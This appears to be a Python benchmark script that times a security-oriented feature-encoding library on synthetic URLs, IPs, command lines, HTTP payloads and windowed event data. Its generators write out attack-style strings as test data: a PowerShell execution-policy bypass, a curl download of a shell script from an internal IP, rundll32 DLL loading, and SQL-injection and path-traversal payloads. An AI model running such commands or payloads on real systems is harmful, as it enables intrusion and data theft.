"""How fast features are made: distinct values a second by kind, windows over many events, one row alone.

Each kind gets a million distinct values, default features without n-grams, to float32. Windows count
events, rates, distinct values and first sights of one entity over 1 h and 24 h.
"""

from __future__ import annotations

import argparse
import json
import resource
import time
from collections.abc import Callable, Mapping
from datetime import datetime, timedelta
from functools import partial
from pathlib import Path

import numpy as np
import polars as pl

from benchmarks.datasets import folders_that
from benchmarks.names import chosen_names
from benchmarks.table import as_table

LEAST_TIMES = 3
#: Of the row that is scored alone, and rows that are.
N_COLUMNS, N_ROWS = 40, 200
#: Real tables of many columns, and logs.
WIDE = (
    "nsl_kdd,malware_pe_headers,ames_housing,vehicle_insurance_fraud,zeek_conn_mixed,apache_access_log,"
    "cowrie_honeypot_json"
)
NAMES = [
    "login",
    "account",
    "news",
    "secure",
    "update",
    "shop",
    "cdn",
    "mail",
    "static",
    "api",
    "img",
    "pay",
]
Maker = Callable[[np.random.Generator, int], list[str] | pl.Series]


def add_arguments(parser: argparse.ArgumentParser) -> None:
    """Declare the arguments of the command."""
    parser.add_argument("--values", type=int, default=1_000_000, help="distinct values a kind")
    parser.add_argument("--events", type=int, default=10_000_000, help="events in windows")
    parser.add_argument("--only", help="names of measurements, with commas between")
    parser.add_argument("--data", type=Path, help="folder of sets, of which single rows are taken")
    parser.add_argument("--sets", default=WIDE, help="which of them, with commas between")


def run(chosen: argparse.Namespace) -> int:
    """Print a line for each measurement."""
    everything = [*KINDS, "windows", "row"]
    wanted = chosen_names(chosen.only or ",".join(everything), "measurement", everything)
    real = [] if chosen.data is None else folders_that(chosen.data, chosen.sets, _has_rows)
    lines = [["what", "features", "values", "seconds", "a second"]]
    for name in wanted:
        if name in KINDS:
            lines.append(of_kind(name, chosen.values))
    if "windows" in wanted:
        lines.append(of_windows(chosen.events))
    print("\n".join(as_table(lines)))
    if "windows" in wanted:
        peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 2**20
        print(f"\nPeak memory of the whole process: {peak:.2f} GiB.")
    if "row" in wanted:
        print("\n" + "\n".join(as_table([["one row of 40 raw columns", "ms"], *of_one_row()])))
    if real:
        told = [of_real_rows(folder) for folder in real]
        print("\n" + "\n".join(as_table([["one row of real columns", "ms"], *told])))
    return 0


def _has_rows(folder: Path) -> bool:
    return all((folder / file).exists() for file in ("meta.json", "train.parquet"))


def of_kind(name: str, n: int) -> list[str]:
    """Return how fast one kind is."""
    from phantom_ml.config import FeatureSettings
    from phantom_ml.data.recognise import recognise
    from phantom_ml.features.fit import fit_encoder

    values = pl.Series("c", KINDS[name](np.random.default_rng(0), n))
    frame = values.to_frame()
    schema = recognise(frame.head(20_000), {"c": name})
    encoder = fit_encoder(frame, schema, FeatureSettings(statistical=False))
    parts = [c for c in encoder.columns if c.name != "typicality"]
    width = sum(len(c.features) for c in parts)

    def encode() -> None:
        out, at = np.empty((n, width), np.float32), 0
        for part in parts:
            part.transform(values, out[:, at : at + len(part.features)])
            at += len(part.features)

    seconds = min(_seconds(encode) for _ in range(LEAST_TIMES))
    return [name, str(width), f"{n:,}", f"{seconds:.2f}", f"{n / seconds:,.0f}"]


def _seconds(work: Callable[[], None]) -> float:
    start = time.perf_counter()
    work()
    return time.perf_counter() - start


def of_windows(n: int) -> list[str]:
    """Return how fast windows are."""
    from phantom_ml.features.windows.plan import EntityPlan, WindowPlan
    from phantom_ml.features.windows.state import WindowState
    from phantom_ml.features.windows.told import window_features

    rng = np.random.default_rng(0)
    frame = pl.DataFrame(
        {
            "time": pl.Series(np.sort(rng.integers(0, 7 * 86_400_000, n))).cast(pl.Datetime("ms")),
            "src_ip": pl.Series(rng.zipf(1.3, n) % 50_000).cast(pl.String),
            "dst_port": rng.integers(0, 2_000, n),
        }
    )
    entity = EntityPlan(columns=("src_ip",), windows=(3600, 86_400), distinct=("dst_port",))
    plan = WindowPlan(time="time", entities=(entity,))
    state = WindowState.empty(plan)
    seconds = _seconds(lambda: window_features(plan, frame, state))
    width = len(plan.features)
    return ["windows", str(width), f"{n:,}", f"{seconds:.2f}", f"{n / seconds:,.0f}"]


def of_one_row() -> list[list[str]]:
    """Return how long one row takes: each kind alone, and all of them in one table of 40 columns."""
    rng, n = np.random.default_rng(1), 5_000
    texts = {
        f"{name}_{i}": pl.Series(make(rng, n)) for i in range(2) for name, make in KINDS.items()
    }
    numbers = {f"number_{i}": pl.Series(rng.normal(size=n)) for i in range(N_COLUMNS)}
    tables = {
        "numbers": pl.DataFrame(numbers),
        f"mixed, {len(texts)} of them of text": pl.DataFrame(texts | numbers)[:, :N_COLUMNS],
    }
    return [_one_row(name, frame) for name, frame in tables.items()]


def _one_row(name: str, frame: pl.DataFrame) -> list[str]:
    kinds = {c: c.rsplit("_", 1)[0] for c in frame.columns}
    return _alone(name, frame, frame, kinds)


def of_real_rows(folder: Path) -> list[str]:
    """Return how long one row of a set's test part takes, with all features of its training part.

    A log without a test part has its last rows taken for it.
    """
    meta, test_file = json.loads((folder / "meta.json").read_text()), folder / "test.parquet"
    train = pl.read_parquet(folder / "train.parquet")
    test = pl.read_parquet(test_file) if test_file.exists() else train.tail(N_ROWS)
    train = train if test_file.exists() else train.head(-N_ROWS)
    named = ("label_columns", "id_columns_to_ignore")
    hidden = [meta.get("target"), *(c for key in named for c in meta.get(key) or ())]
    inputs = [c for c in train.columns if c not in hidden and c in test.columns]
    name = f"{len(inputs)} columns of {folder.name}"
    return _alone(name, train.select(inputs), test.select(inputs), {}, meta.get("time_column"))


def _alone(
    name: str,
    train: pl.DataFrame,
    test: pl.DataFrame,
    kinds: Mapping[str, str],
    time_column: str | None = None,
) -> list[str]:
    from phantom_ml.config import FeatureSettings
    from phantom_ml.data.recognise import recognise
    from phantom_ml.features.fit import fit_encoder

    by = time_column if time_column in train.columns else None
    encoder = fit_encoder(train, recognise(train, kinds), FeatureSettings(), by)
    rows = [test[i : i + 1] for i in range(min(N_ROWS, test.height))]
    taken = [_seconds(partial(encoder.transform, row)) for row in [rows[0], *rows]][1:]
    return [f"{name}, {len(encoder.features)} features", f"{1e3 * np.median(taken):.2f}"]


def _urls(rng: np.random.Generator, n: int) -> list[str]:
    words = np.array(NAMES)
    ends = np.array(["com", "net", "org", "de", "co.uk", "io", "ru", "info", "xyz"])
    a, b, c = (rng.choice(words, n) for _ in range(3))
    numbers, end = rng.permutation(n), rng.choice(ends, n)
    parts = zip(a, numbers, b, end, c, rng.integers(0, 10**6, n), strict=True)
    return [f"https://{p}{i}.{q}.{e}/{r}/{k}.php?id={k}&t={i}" for p, i, q, e, r, k in parts]


def _addresses(rng: np.random.Generator, n: int) -> list[str]:
    whole = rng.choice(2**31, n, replace=False) * 2 + rng.integers(0, 2, n)
    octets = [(whole >> shift & 255).astype(str) for shift in (24, 16, 8, 0)]
    return [".".join(four) for four in zip(*octets, strict=True)]


def _commands(rng: np.random.Generator, n: int) -> list[str]:
    shapes = (
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\u{0}\\run{1}.ps1",
        "C:\\Windows\\System32\\cmd.exe /c whoami /all > C:\\Temp\\o{1}.txt & echo {0}",
        "rundll32.exe C:\\Users\\Public\\a{1}.dll,Start {0}",
        "/usr/bin/curl -s -o /tmp/x{1} http://10.1.2.3:{0}/p.sh",
        "svchost.exe -k netsvcs -p -s Schedule{1} -Embedding {0}",
    )
    ports, kinds = rng.integers(1024, 65_536, n), rng.integers(0, len(shapes), n)
    return [shapes[k].format(p, i) for i, (k, p) in enumerate(zip(kinds, ports, strict=True))]


def _times(rng: np.random.Generator, n: int) -> pl.Series:
    start = datetime(2026, 1, 1)
    moments = pl.datetime_range(start, start + timedelta(seconds=37 * (n - 1)), "37s", eager=True)
    return moments[rng.permutation(n)]


def _domains(rng: np.random.Generator, n: int) -> list[str]:
    return [f"{a:x}.host{i}.example{a % 97}.com" for i, a in enumerate(rng.integers(0, 2**40, n))]


def _agents(rng: np.random.Generator, n: int) -> list[str]:
    return [
        f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/{i % 120}.0.{i} Safari/537.36"
        for i in rng.integers(0, 60, n)
    ]


def _payloads(rng: np.random.Generator, n: int) -> list[str]:
    return [
        f"user={a:x}&q=1' or {i}={i}-- &page=%2e%2e%2fetc"
        for i, a in enumerate(rng.integers(0, 2**40, n))
    ]


def _texts(rng: np.random.Generator, n: int) -> list[str]:
    return [
        f"Connection {i} from host {a:x} was closed by the peer"
        for i, a in enumerate(rng.integers(0, 2**40, n))
    ]


KINDS: dict[str, Maker] = {
    "url": _urls,
    "ip": _addresses,
    "command_line": _commands,
    "timestamp": _times,
    "domain": _domains,
    "user_agent": _agents,
    "http_payload": _payloads,
    "text": _texts,
}
